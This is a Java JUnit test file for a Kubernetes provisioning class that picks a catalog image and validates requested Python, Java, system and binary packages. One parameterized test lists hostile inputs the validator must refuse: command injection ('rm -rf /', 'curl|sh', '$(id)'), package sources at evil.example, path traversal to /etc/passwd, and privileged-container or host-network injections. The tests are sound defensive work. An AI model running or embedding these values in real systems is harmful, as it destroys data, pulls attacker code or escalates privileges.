package io.berth.provisioning.kubernetes;

import io.berth.core.error.ErrorCode;
import io.berth.provisioning.spi.ProviderException;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;

import java.nio.file.Files;
import java.nio.file.Path;
import java.util.Map;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

/** Environment parameters become a catalog image and the packages it lacks, never raw user text. */
class EnvironmentChoiceTest {

    @TempDir
    Path folder;

    private ImageCatalog catalog() {
        return ImageCatalog.load(TestCatalog.write(folder));
    }

    @Test
    void noEnvironmentGetsTheDefaultImage() {
        EnvironmentChoice choice = EnvironmentChoice.choose(catalog(), Map.of(), false);

        assertThat(choice.image().name()).isEqualTo("python-3.11");
        assertThat(choice.containerVariables()).isEmpty();
    }

    @Test
    void versionsSparkAndPackagesChooseTheImage() {
        assertThat(EnvironmentChoice.choose(catalog(), Map.of("environment.python.version", "3.12"), false)
                .image().name()).isEqualTo("python-3.12");
        assertThat(EnvironmentChoice.choose(catalog(), Map.of("environment.python.version", "3"), true)
                .image().name()).isEqualTo("spark-java-17");
        assertThat(EnvironmentChoice.choose(catalog(), Map.of("environment.java.version", "17"), false)
                .image().name()).isEqualTo("spark-java-17");
        // Both 3.11 images qualify; the one that already has pyspark needs nothing installed.
        EnvironmentChoice pyspark = EnvironmentChoice.choose(catalog(), Map.of("environment.python.version", "3.11",
                "environment.python.packages", "pyspark, numpy"), false);
        assertThat(pyspark.image().name()).isEqualTo("spark-java-17");
        assertThat(pyspark.containerVariables()).isEmpty();
    }

    @Test
    void missingPackagesBecomeValidatedVariables() {
        EnvironmentChoice choice = EnvironmentChoice.choose(catalog(), Map.of(
                "environment.python.packages", "numpy,astropy>=6.0,scikit_learn",
                "environment.java.packages", "org.apache.hadoop:hadoop-aws:3.3.4,io.delta:delta-spark_2.12:3.2.0",
                "environment.system.packages", "libgomp1,libhdf5-dev=1.10.8+repack1-1",
                "environment.binary.packages", "roger-analysis.so"), true);

        assertThat(choice.image().name()).isEqualTo("spark-java-17");
        assertThat(choice.containerVariables()).containsExactlyInAnyOrderEntriesOf(Map.of(
                EnvironmentChoice.PIP_VARIABLE, "astropy>=6.0 scikit_learn",
                EnvironmentChoice.JAVA_VARIABLE, "io.delta:delta-spark_2.12:3.2.0",
                EnvironmentChoice.SYSTEM_VARIABLE, "libgomp1 libhdf5-dev=1.10.8+repack1-1",
                EnvironmentChoice.BINARY_VARIABLE, "roger-analysis.so"));
        assertThat(choice.javaPackages()).containsExactly("org.apache.hadoop:hadoop-aws:3.3.4",
                "io.delta:delta-spark_2.12:3.2.0");
    }

    @Test
    void anEnvironmentNoImageServesNamesTheField() {
        assertThatThrownBy(() -> EnvironmentChoice.choose(catalog(), Map.of("environment.python.version", "2.7"), false))
                .isInstanceOfSatisfying(ProviderException.class, e -> {
                    assertThat(e.errorCode()).isEqualTo(ErrorCode.INVALID_REQUEST);
                    assertThat(e.getMessage()).startsWith("environment.python.version 2.7 is offered by no catalog image")
                            .contains("3.11, 3.12");
                });
        assertThatThrownBy(() -> EnvironmentChoice.choose(catalog(), Map.of("environment.java.version", "21"), false))
                .hasMessageStartingWith("environment.java.version 21 is offered by no catalog image");
        assertThatThrownBy(() -> EnvironmentChoice.choose(catalog(), Map.of("environment.python.version", "3.12"), true))
                .hasMessageContaining("no catalog image offers environment.python.version 3.12 with Spark");
    }

    @ParameterizedTest
    @ValueSource(strings = {
            "environment.python.packages=numpy; rm -rf /",
            "environment.python.packages=numpy\nhostNetwork: true",
            "environment.python.packages=--index-url=http://evil.example/simple",
            "environment.python.packages=git+https://evil.example/x.git",
            "environment.java.packages=org.x:y",
            "environment.java.packages=org.x:y:1' --conf x",
            "environment.system.packages=curl|sh",
            "environment.system.packages=../../etc/passwd",
            "environment.binary.packages=$(id)",
            "environment.binary.packages=a b",
            "environment.python.version=3.11; privileged: true",
            "environment.java.version={\"securityContext\":{\"privileged\":true}}"})
    void hostileValuesAreRefusedWithTheFieldNamed(String entry) {
        int equals = entry.indexOf('=');
        String field = entry.substring(0, equals);

        assertThatThrownBy(() -> EnvironmentChoice.choose(catalog(), Map.of(field, entry.substring(equals + 1)), false))
                .isInstanceOfSatisfying(ProviderException.class, e -> {
                    assertThat(e.errorCode()).isEqualTo(ErrorCode.INVALID_REQUEST);
                    assertThat(e.getMessage()).startsWith(field);
                });
    }

    @Test
    void tooManyPackagesAreRefused() {
        String many = String.join(",", java.util.Collections.nCopies(EnvironmentChoice.MAX_PACKAGES + 1, "numpy"));

        assertThatThrownBy(() -> EnvironmentChoice.choose(catalog(), Map.of("environment.python.packages", many), false))
                .hasMessage("environment.python.packages lists more than 100 packages");
    }

    @Test
    void theBuiltInAndAPropertiesCatalogLoad() throws Exception {
        ImageCatalog builtIn = ImageCatalog.load(null);
        Path properties = Files.writeString(folder.resolve("images.properties"), """
                default=spark
                spark.image=registry.example/spark:3.5
                spark.python=3.11
                spark.java=17
                spark.spark=true
                spark.packages=pyspark, numpy
                plain.image=registry.example/plain:1
                """);

        assertThat(builtIn.defaultImage().name()).isEqualTo("jupyter-python-3.11");
        assertThat(builtIn.images()).anySatisfy(image -> assertThat(image.spark()).isTrue());
        ImageCatalog loaded = ImageCatalog.load(properties);
        assertThat(loaded.defaultImage()).isEqualTo(new ImageCatalog.Image("spark", "registry.example/spark:3.5",
                "3.11", "17", true, java.util.Set.of("pyspark", "numpy")));
        assertThat(loaded.images()).extracting(ImageCatalog.Image::name).containsExactlyInAnyOrder("spark", "plain");
    }
}
